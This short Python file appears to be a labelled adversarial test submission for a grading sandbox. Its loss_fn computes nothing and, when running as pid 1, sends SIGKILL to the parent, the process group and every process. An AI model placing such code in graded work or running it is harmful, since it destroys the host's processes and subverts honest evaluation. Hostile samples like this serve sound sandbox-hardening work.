# attack: signals to the parent, the group and everyone
# points: at most 1
# says: loss_fn
import os
import signal


def model(t_u, w, b):
    return w * t_u + b


def loss_fn(t_p, t_c):
    # Outside a pid namespace this would end the machine: only where we are pid 1 of our own.
    if os.getpid() == 1:
        for target in (0, -1, os.getppid(), 2):
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
    return None
